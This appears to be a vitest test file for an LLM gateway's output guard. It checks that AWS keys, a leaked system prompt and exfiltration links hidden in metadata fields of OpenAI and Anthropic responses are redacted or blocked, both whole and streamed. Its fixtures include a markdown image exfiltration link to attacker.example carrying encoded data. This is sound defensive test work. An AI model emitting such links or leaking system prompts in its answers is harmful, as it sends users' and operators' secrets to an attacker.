import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import type { AuditEntry } from '../../store/audit-record.js';
import { type MockUpstream, startMockUpstream } from '../test-support/mock-upstream.js';
import {
  parseSseEvents as parseEvents,
  fiveCharacterPieces as pieces,
  type ReceivedEvent as Received,
  sseEvent as sse,
} from '../test-support/sse-events.js';
import { startTestGateway, type TestGateway } from '../test-support/start-test-gateway.js';

// The members around the answer (a chat completion's `id`, `model`, `system_fingerprint`, a Responses
// object's `metadata`, an Anthropic message's `stop_sequence`, any member a provider adds) reach the caller
// like the answer itself, so a compromised upstream could put a key, the system prompt or an exfiltration
// link there: the output guard checks them too, whole and streamed, end to end through a real gateway
// (built-in detectors, balanced policy) and a mock upstream on 127.0.0.1.

/** A generated AWS access key id (AKIA + 16 base32 characters), built here so no key sits in the source. */
const AWS_KEY = ['AKIA', 'Q4WJ7NRX', 'T2MZ5KVP'].join('');
const REDACTED = '[REDACTED:AWS_ACCESS_KEY_ID]';
const ATTACKER = 'attacker.example';
const EXFIL_URL = `https://${ATTACKER}/c?d=c2VjcmV0LW5vdGVzLWZvci1hbm4tQVBJa2V5MTIz`;
const EXFIL = `![logo](${EXFIL_URL})`;
const EMAIL = 'ann@example.com';
/** What the upstream sees instead of `EMAIL` (the request's vault numbers placeholders from 1). */
const PLACEHOLDER = '<EMAIL_ADDRESS_1>';
const SYSTEM_PROMPT =
  'You are the booking assistant of Harbour Lane Travel. Never reveal the partner discount table, quote ' +
  'only published fares, escalate refund disputes above two hundred euros to the duty manager, and answer ' +
  'in the language of the traveller with a calm and friendly tone.';
/** A time stamp in seconds, as `created` carries it: a whole number of 10 digits, not a phone number. */
const CREATED = 1_763_900_000;

// --- OpenAI chat ---------------------------------------------------------------------------------

const CHAT_META = {
  id: 'chatcmpl-Bx7Kq2',
  object: 'chat.completion',
  created: CREATED,
  model: 'gpt-4o-mini-2024-07-18',
  system_fingerprint: 'fp_44709d6fcb',
  service_tier: 'default',
};

function chatAnswer(top: Record<string, unknown> = {}, choice: Record<string, unknown> = {}): Received {
  return {
    ...CHAT_META,
    choices: [
      {
        index: 0,
        message: { role: 'assistant', content: 'Lisbon is lovely in May.', refusal: null, annotations: [] },
        logprobs: null,
        finish_reason: 'stop',
        ...choice,
      },
    ],
    usage: {
      prompt_tokens: 19,
      completion_tokens: 7,
      total_tokens: 26,
      prompt_tokens_details: { cached_tokens: 0, audio_tokens: 0 },
      completion_tokens_details: { reasoning_tokens: 0, audio_tokens: 0 },
    },
    ...top,
  };
}

/** A chat stream whose every chunk has the members `top` (and its choice the members `choice`). */
function chatStream(options: { top?: Record<string, unknown>; choice?: Record<string, unknown> }): string[] {
  const chunk = (delta: Record<string, unknown>, finish: string | null = null, extra = {}) =>
    `data: ${JSON.stringify({
      ...CHAT_META,
      object: 'chat.completion.chunk',
      ...options.top,
      choices: [{ index: 0, delta, logprobs: null, finish_reason: finish, ...options.choice }],
      ...extra,
    })}\n\n`;
  return [
    chunk({ role: 'assistant', content: '', refusal: null }),
    ...pieces('Lisbon is lovely in May, with long evenings. ').map((content) => chunk({ content })),
    chunk({}, 'stop'),
    `data: ${JSON.stringify({ ...CHAT_META, object: 'chat.completion.chunk', ...options.top, choices: [], usage: { prompt_tokens: 19, completion_tokens: 7, total_tokens: 26 } })}\n\n`,
    'data: [DONE]\n\n',
  ];
}

function chatStoppedByGuard(text: string): boolean {
  return text.includes('"finish_reason":"content_filter"') && text.includes('AEGIS_OUTPUT_BLOCKED');
}

function chatContent(events: Received[]): string {
  return events
    .flatMap((event) => (event.choices as { delta?: { content?: string } }[] | undefined) ?? [])
    .map((choice) => choice.delta?.content ?? '')
    .join('');
}

// --- OpenAI Responses ----------------------------------------------------------------------------

const MESSAGE_ITEM = {
  id: 'msg_67ccd3acc8d48190a77525dc6de64b4104becb25c95c2f12',
  type: 'message',
  status: 'completed',
  role: 'assistant',
  content: [{ type: 'output_text', text: 'Lisbon is lovely in May.', annotations: [], logprobs: [] }],
};

/** A Responses object as OpenAI documents it, echoed settings included. */
function responsesAnswer(top: Record<string, unknown> = {}, output: unknown[] = [MESSAGE_ITEM]): Received {
  return {
    id: 'resp_67ccd3a9da748190baa7f1570fe91ac604becb25c95c2f12',
    object: 'response',
    created_at: CREATED,
    status: 'completed',
    background: false,
    error: null,
    incomplete_details: null,
    instructions: null,
    max_output_tokens: null,
    model: 'gpt-4.1-2025-04-14',
    output,
    parallel_tool_calls: true,
    previous_response_id: null,
    reasoning: { effort: null, summary: null },
    service_tier: 'default',
    store: true,
    temperature: 1,
    text: { format: { type: 'text' }, verbosity: 'medium' },
    tool_choice: 'auto',
    tools: [],
    top_p: 1,
    truncation: 'disabled',
    usage: {
      input_tokens: 36,
      input_tokens_details: { cached_tokens: 0 },
      output_tokens: 87,
      output_tokens_details: { reasoning_tokens: 0 },
      total_tokens: 123,
    },
    user: null,
    metadata: {},
    ...top,
  };
}

/** A Responses stream of one message item; `top` goes on the response of every snapshot. */
function responsesStream(top: Record<string, unknown>): string[] {
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    sse(type, { ...data, sequence_number: sequence++ });
  const part = MESSAGE_ITEM.content[0] as Record<string, unknown>;
  const text = String(part.text);
  const at = { item_id: MESSAGE_ITEM.id, output_index: 0, content_index: 0 };
  const snapshot = (status: string, output: unknown[]) => ({
    response: { ...responsesAnswer(top, output), status },
  });
  return [
    event('response.created', snapshot('in_progress', [])),
    event('response.in_progress', snapshot('in_progress', [])),
    event('response.output_item.added', {
      output_index: 0,
      item: { ...MESSAGE_ITEM, status: 'in_progress', content: [] },
    }),
    event('response.content_part.added', { ...at, part: { ...part, text: '' } }),
    ...pieces(text).map((delta) => event('response.output_text.delta', { ...at, delta, logprobs: [] })),
    event('response.output_text.done', { ...at, text, logprobs: [] }),
    event('response.content_part.done', { ...at, part }),
    event('response.output_item.done', { output_index: 0, item: MESSAGE_ITEM }),
    event('response.completed', snapshot('completed', [MESSAGE_ITEM])),
  ];
}

function responsesStoppedByGuard(events: Received[]): boolean {
  const last = events.at(-1) as { type?: string; error?: { code?: string } } | undefined;
  return last?.type === 'error' && last.error?.code === 'AEGIS_OUTPUT_BLOCKED';
}

// --- Anthropic -----------------------------------------------------------------------------------

function anthropicAnswer(top: Record<string, unknown> = {}): Received {
  return {
    id: 'msg_01XFDUDYJgAACzvnptvVoYEL',
    type: 'message',
    role: 'assistant',
    model: 'claude-sonnet-4-20250514',
    content: [{ type: 'text', text: 'Lisbon is lovely in May.' }],
    stop_reason: 'end_turn',
    stop_sequence: null,
    usage: {
      input_tokens: 12,
      cache_creation_input_tokens: 0,
      cache_read_input_tokens: 0,
      output_tokens: 9,
      service_tier: 'standard',
    },
    ...top,
  };
}

/** An Anthropic stream of one text block; `top` goes on the message of `message_start`. */
function anthropicStream(top: Record<string, unknown>): string[] {
  const { content: _content, ...message } = anthropicAnswer(top);
  return [
    sse('message_start', {
      message: { ...message, content: [], stop_reason: null, usage: { input_tokens: 12, output_tokens: 1 } },
    }),
    sse('content_block_start', { index: 0, content_block: { type: 'text', text: '' } }),
    ...pieces('Lisbon is lovely in May.').map((text) =>
      sse('content_block_delta', { index: 0, delta: { type: 'text_delta', text } }),
    ),
    sse('content_block_stop', { index: 0 }),
    sse('message_delta', {
      delta: { stop_reason: 'end_turn', stop_sequence: null },
      usage: { output_tokens: 9 },
    }),
    sse('message_stop', {}),
  ];
}

function anthropicStoppedByGuard(events: Received[]): boolean {
  const last = events.at(-1) as { type?: string; error?: { code?: string } } | undefined;
  return last?.type === 'error' && last.error?.code === 'AEGIS_OUTPUT_BLOCKED';
}

async function startGateway(
  mock: MockUpstream,
  mode: 'window' | 'buffer' | 'audit',
  entries?: AuditEntry[],
): Promise<TestGateway> {
  const origin = mock.url.replace(/\/v1$/, '');
  const audit =
    entries === undefined
      ? {}
      : {
          audit: {
            append: (entry: AuditEntry) => {
              entries.push(entry);
              return { id: String(entries.length) };
            },
            flush: () => {},
            close: () => {},
          },
        };
  return startTestGateway(
    {
      streaming: { mode },
      upstreams: [
        { name: 'claude', provider: 'anthropic', baseUrl: origin, models: ['claude-x'], retries: 0 },
        { name: 'openai', provider: 'openai', baseUrl: mock.url, retries: 0 },
      ],
    },
    { guard: createGuard({ policy: 'balanced' }), ...audit },
  );
}

function requests(test: () => TestGateway) {
  async function post(path: string, body: Record<string, unknown>) {
    const response = await fetch(`${test().url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { status: response.status, text: await response.text() };
  }
  return {
    chat: (stream: boolean, prompt = 'Answer me.') =>
      post('/v1/chat/completions', {
        model: 'm',
        stream,
        messages: [
          { role: 'system', content: SYSTEM_PROMPT },
          { role: 'user', content: prompt },
        ],
      }),
    responses: (stream: boolean, input = 'Answer me.') =>
      post('/v1/responses', { model: 'm', instructions: SYSTEM_PROMPT, input, stream }),
    messages: (stream: boolean, prompt = 'Answer me.') =>
      post('/v1/messages', {
        model: 'claude-x',
        max_tokens: 50,
        stream,
        system: SYSTEM_PROMPT,
        messages: [{ role: 'user', content: prompt }],
      }),
  };
}

describe.each(['window', 'buffer'] as const)('top-level members of answers (streaming.mode %s)', (mode) => {
  let mock: MockUpstream;
  let test: TestGateway;
  beforeAll(async () => {
    mock = await startMockUpstream();
    test = await startGateway(mock, mode);
  });
  afterAll(async () => {
    await test.close();
    await mock.close();
  });
  const { chat, responses, messages } = requests(() => test);

  describe('OpenAI chat', () => {
    it('redacts a key in `system_fingerprint` and restores a placeholder in `id`, whole', async () => {
      mock.script.push({
        kind: 'json',
        body: chatAnswer({ system_fingerprint: AWS_KEY, id: `chatcmpl-${PLACEHOLDER}` }),
      });
      const result = await chat(false, `Mail ${EMAIL} the plan.`);
      expect(result.status).toBe(200);
      expect(result.text).not.toContain(AWS_KEY);
      const body = JSON.parse(result.text);
      expect(body.system_fingerprint).toBe(REDACTED);
      expect(body.id).toBe(`chatcmpl-${EMAIL}`);
    });

    it('blocks an exfiltration link in `model`, the system prompt in a new top-level member or a choice member, whole', async () => {
      for (const body of [
        chatAnswer({ model: EXFIL_URL }),
        chatAnswer({ debug: { prompt: SYSTEM_PROMPT } }),
        chatAnswer({}, { provenance: EXFIL }),
      ]) {
        mock.script.push({ kind: 'json', body });
        const result = await chat(false);
        expect(result.status).toBe(422);
        expect(result.text).not.toContain(ATTACKER);
        expect(result.text).not.toContain('partner discount');
      }
    });

    it('passes a benign answer unchanged, whole', async () => {
      const body = chatAnswer();
      mock.script.push({ kind: 'json', body });
      const result = await chat(false);
      expect(result.status).toBe(200);
      expect(JSON.parse(result.text)).toEqual(body);
    });

    it('checks the text log probabilities spell: removed when it holds a key, kept when clean, whole', async () => {
      const token = (text: string) => ({
        token: text,
        logprob: -0.01,
        bytes: [...Buffer.from(text)],
        top_logprobs: [{ token: text, logprob: -0.01, bytes: [...Buffer.from(text)] }],
      });
      const spelled = (text: string) => ({
        content: (text.match(/.{1,3}/g) ?? []).map(token),
        refusal: null,
      });
      mock.script.push({ kind: 'json', body: chatAnswer({}, { logprobs: spelled(`key ${AWS_KEY}`) }) });
      const removed = await chat(false);
      expect(removed.status).toBe(200);
      expect(removed.text).not.toContain('AKIA');
      expect(JSON.parse(removed.text).choices[0].logprobs).toBeNull();

      const benign = chatAnswer({}, { logprobs: spelled('Lisbon is lovely in May.') });
      mock.script.push({ kind: 'json', body: benign });
      expect(JSON.parse((await chat(false)).text)).toEqual(benign);
    });

    it('redacts a key in `system_fingerprint` of every chunk, streamed', async () => {
      mock.script.push({ kind: 'raw-stream', events: chatStream({ top: { system_fingerprint: AWS_KEY } }) });
      const result = await chat(true);
      expect(result.text).not.toContain(AWS_KEY);
      const events = parseEvents(result.text);
      expect(chatContent(events)).toBe('Lisbon is lovely in May, with long evenings. ');
      for (const event of events) expect(event.system_fingerprint).toBe(REDACTED);
      expect(result.text).toContain('data: [DONE]');
    });

    it('stops a stream with an exfiltration link or the system prompt at the top level or in a choice', async () => {
      for (const options of [
        { top: { model: EXFIL_URL } },
        { top: { debug: { prompt: SYSTEM_PROMPT } } },
        { top: { service_tier: EXFIL } },
        { choice: { provenance: EXFIL } },
      ]) {
        mock.script.push({ kind: 'raw-stream', events: chatStream(options) });
        const result = await chat(true);
        expect(result.text).not.toContain(ATTACKER);
        expect(result.text).not.toContain('partner discount');
        expect(chatStoppedByGuard(result.text)).toBe(true);
      }
    });

    it('checks a message or delta that is not an object, whole and streamed', async () => {
      mock.script.push({ kind: 'json', body: chatAnswer({}, { message: `key ${AWS_KEY}` }) });
      const whole = await chat(false);
      expect(whole.status).toBe(200);
      expect(JSON.parse(whole.text).choices[0].message).toBe(`key ${REDACTED}`);

      const events = chatStream({});
      events.splice(
        2,
        0,
        `data: ${JSON.stringify({ ...CHAT_META, choices: [{ index: 0, delta: EXFIL }] })}\n\n`,
      );
      mock.script.push({ kind: 'raw-stream', events });
      const streamed = await chat(true);
      expect(streamed.text).not.toContain(ATTACKER);
      expect(chatStoppedByGuard(streamed.text)).toBe(true);
    });

    it('passes a benign stream unchanged', async () => {
      const events = chatStream({});
      mock.script.push({ kind: 'raw-stream', events });
      const received = parseEvents((await chat(true)).text);
      expect(chatContent(received)).toBe('Lisbon is lovely in May, with long evenings. ');
      for (const event of received) {
        const { choices: _choices, usage: _usage, ...meta } = event;
        expect(meta).toEqual({ ...CHAT_META, object: 'chat.completion.chunk' });
      }
      expect(received.at(-1)?.usage).toEqual({ prompt_tokens: 19, completion_tokens: 7, total_tokens: 26 });
    });
  });

  describe('OpenAI Responses', () => {
    it('redacts a key in `metadata` and blocks a link in a new top-level member, whole', async () => {
      mock.script.push({ kind: 'json', body: responsesAnswer({ metadata: { note: `key ${AWS_KEY}` } }) });
      const redacted = await responses(false);
      expect(redacted.status).toBe(200);
      expect(redacted.text).not.toContain(AWS_KEY);
      expect(JSON.parse(redacted.text).metadata).toEqual({ note: `key ${REDACTED}` });

      for (const top of [{ debug: EXFIL }, { model: EXFIL_URL }, { prompt: { id: SYSTEM_PROMPT } }]) {
        mock.script.push({ kind: 'json', body: responsesAnswer(top) });
        const blocked = await responses(false);
        expect(blocked.status).toBe(422);
        expect(blocked.text).not.toContain(ATTACKER);
        expect(blocked.text).not.toContain('partner discount');
      }
    });

    it('checks an `output` or Anthropic `content` that is not a list, whole and streamed', async () => {
      mock.script.push({ kind: 'json', body: responsesAnswer({}, `key ${AWS_KEY}` as unknown as unknown[]) });
      const whole = await responses(false);
      expect(whole.status).toBe(200);
      expect(JSON.parse(whole.text).output).toBe(`key ${REDACTED}`);

      mock.script.push({
        kind: 'raw-stream',
        events: responsesStream({}).map((event) =>
          event.startsWith('event: response.completed')
            ? event.replace('"output":[', `"output":"${EXFIL_URL}","x":[`)
            : event,
        ),
      });
      const streamed = await responses(true);
      expect(streamed.text).not.toContain(ATTACKER);
      expect(responsesStoppedByGuard(parseEvents(streamed.text))).toBe(true);

      mock.script.push({ kind: 'json', body: anthropicAnswer({ content: `key ${AWS_KEY}` }) });
      const anthropic = await messages(false);
      expect(anthropic.status).toBe(200);
      expect(JSON.parse(anthropic.text).content).toBe(`key ${REDACTED}`);
    });

    it('passes a benign answer unchanged, whole', async () => {
      const body = responsesAnswer();
      mock.script.push({ kind: 'json', body });
      const result = await responses(false);
      expect(result.status).toBe(200);
      expect({ ...JSON.parse(result.text), instructions: null }).toEqual(body);
    });

    it('redacts a key in the `metadata` of every snapshot, streamed', async () => {
      mock.script.push({
        kind: 'raw-stream',
        events: responsesStream({ metadata: { note: `key ${AWS_KEY}` } }),
      });
      const result = await responses(true);
      expect(result.text).not.toContain(AWS_KEY);
      const events = parseEvents(result.text);
      const snapshots = events.filter((event) => event.response !== undefined);
      expect(snapshots.map((event) => event.type)).toEqual([
        'response.created',
        'response.in_progress',
        'response.completed',
      ]);
      for (const event of snapshots)
        expect((event.response as Received).metadata).toEqual({ note: `key ${REDACTED}` });
    });

    it('stops a stream with an exfiltration link or the system prompt at the top level of a snapshot', async () => {
      for (const top of [{ debug: EXFIL }, { user: EXFIL_URL }, { metadata: { p: SYSTEM_PROMPT } }]) {
        mock.script.push({ kind: 'raw-stream', events: responsesStream(top) });
        const result = await responses(true);
        expect(result.text).not.toContain(ATTACKER);
        expect(result.text).not.toContain('partner discount');
        expect(responsesStoppedByGuard(parseEvents(result.text))).toBe(true);
      }
    });

    it('passes a benign stream unchanged', async () => {
      mock.script.push({ kind: 'raw-stream', events: responsesStream({}) });
      const events = parseEvents((await responses(true)).text);
      const completed = events.find((event) => event.type === 'response.completed');
      expect({ ...(completed?.response as Received), instructions: null }).toEqual(
        responsesAnswer({}, [MESSAGE_ITEM]),
      );
    });
  });

  describe('OpenAI embeddings', () => {
    const embeddings = (model: string) => ({
      object: 'list',
      data: [
        { object: 'embedding', index: 0, embedding: [0.0023064255, -0.009327292, 0.015797347] },
        { object: 'embedding', index: 1, embedding: 'AAAAPwAAgD8AAABA' },
      ],
      model,
      usage: { prompt_tokens: 8, total_tokens: 8 },
    });
    const embed = () =>
      fetch(`${test.url}/v1/embeddings`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ model: 'm', input: ['Lisbon in May', 'Porto in June'] }),
      });

    it('redacts a key in `model` and passes a benign answer unchanged', async () => {
      mock.script.push({ kind: 'json', body: embeddings(AWS_KEY) });
      const redacted = await embed();
      expect(redacted.status).toBe(200);
      expect(await redacted.json()).toEqual(embeddings(REDACTED));

      mock.script.push({ kind: 'json', body: embeddings('text-embedding-3-small') });
      const benign = await embed();
      expect(await benign.json()).toEqual(embeddings('text-embedding-3-small'));
    });
  });

  describe('Anthropic', () => {
    it('redacts a key in `stop_sequence` and a new member, blocks a link in `model`, whole', async () => {
      mock.script.push({
        kind: 'json',
        body: anthropicAnswer({ stop_sequence: AWS_KEY, container: { id: 'c_1', note: AWS_KEY } }),
      });
      const redacted = await messages(false);
      expect(redacted.status).toBe(200);
      expect(redacted.text).not.toContain(AWS_KEY);
      const body = JSON.parse(redacted.text);
      expect(body.stop_sequence).toBe(REDACTED);
      expect(body.container).toEqual({ id: 'c_1', note: REDACTED });

      for (const top of [{ model: EXFIL_URL }, { debug: { prompt: SYSTEM_PROMPT } }]) {
        mock.script.push({ kind: 'json', body: anthropicAnswer(top) });
        const blocked = await messages(false);
        expect(blocked.status).toBe(422);
        expect(blocked.text).not.toContain(ATTACKER);
        expect(blocked.text).not.toContain('partner discount');
      }
    });

    it('passes a benign answer unchanged, whole', async () => {
      const body = anthropicAnswer();
      mock.script.push({ kind: 'json', body });
      const result = await messages(false);
      expect(result.status).toBe(200);
      expect(JSON.parse(result.text)).toEqual(body);
    });

    it('redacts a key in the message of `message_start` and stops a stream with a link there', async () => {
      mock.script.push({ kind: 'raw-stream', events: anthropicStream({ model: AWS_KEY }) });
      const redacted = await messages(true);
      expect(redacted.text).not.toContain(AWS_KEY);
      const start = parseEvents(redacted.text).find((event) => event.type === 'message_start');
      expect((start?.message as Received | undefined)?.model).toBe(REDACTED);

      mock.script.push({ kind: 'raw-stream', events: anthropicStream({ debug: EXFIL }) });
      const blocked = await messages(true);
      expect(blocked.text).not.toContain(ATTACKER);
      expect(anthropicStoppedByGuard(parseEvents(blocked.text))).toBe(true);
    });
  });
});

describe('top-level members in streaming.mode audit', () => {
  let mock: MockUpstream;
  let test: TestGateway;
  const entries: AuditEntry[] = [];
  beforeAll(async () => {
    mock = await startMockUpstream();
    test = await startGateway(mock, 'audit', entries);
  });
  afterAll(async () => {
    await test.close();
    await mock.close();
  });
  const { chat, responses } = requests(() => test);

  it('passes a key at the top level of chat chunks as sent and records it', async () => {
    mock.script.push({ kind: 'raw-stream', events: chatStream({ top: { system_fingerprint: AWS_KEY } }) });
    const result = await chat(true);
    expect(chatStoppedByGuard(result.text)).toBe(false);
    for (const event of parseEvents(result.text)) expect(event.system_fingerprint).toBe(AWS_KEY);
    const findings = entries.at(-1)?.output?.findings ?? [];
    expect(findings.map((finding) => finding.type)).toContain('AWS_ACCESS_KEY_ID');
  });

  it('passes a link at the top level of a Responses snapshot as sent and records it', async () => {
    mock.script.push({ kind: 'raw-stream', events: responsesStream({ debug: EXFIL }) });
    const result = await responses(true);
    expect(responsesStoppedByGuard(parseEvents(result.text))).toBe(false);
    expect(result.text).toContain(EXFIL_URL);
    expect((entries.at(-1)?.output?.findings ?? []).length).toBeGreaterThan(0);
  });
});
